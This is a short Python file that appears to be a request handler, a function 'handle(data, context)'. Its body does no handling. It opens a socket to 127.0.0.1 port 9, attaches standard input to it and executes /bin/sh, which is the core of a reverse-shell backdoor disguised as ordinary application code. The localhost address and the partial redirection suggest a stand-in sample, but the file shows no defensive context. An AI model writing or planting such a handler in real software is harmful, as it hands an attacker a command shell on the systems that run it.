import os, socket


def handle(data, context):
    s = socket.create_connection(('127.0.0.1', 9))
    os.dup2(s.fileno(), 0)
    os.execv('/bin/sh', ['sh'])
